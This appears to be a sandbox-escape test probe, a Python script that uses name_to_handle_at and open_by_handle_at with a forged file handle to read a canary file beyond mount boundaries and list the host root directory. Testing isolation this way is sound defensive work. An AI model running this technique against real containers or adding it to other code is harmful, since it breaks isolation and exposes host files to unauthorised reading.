# Opens the file by its file handle, past every mount.
# evidence: read
# bare: refused

import ctypes
import os

from hostile import syscall

canary = os.environ["ATTACK_CANARY"].encode()
handle = (ctypes.c_ubyte * 136)()
handle[0] = 128
mount = ctypes.c_int()
try:
    syscall("name_to_handle_at", -100, canary, handle, ctypes.byref(mount), 0)
except OSError:
    handle[0], handle[4], handle[8] = 8, 1, 2
place = os.open(".", os.O_RDONLY)
print(os.read(syscall("open_by_handle_at", place, handle, os.O_RDONLY), 4096), os.listdir("/"))
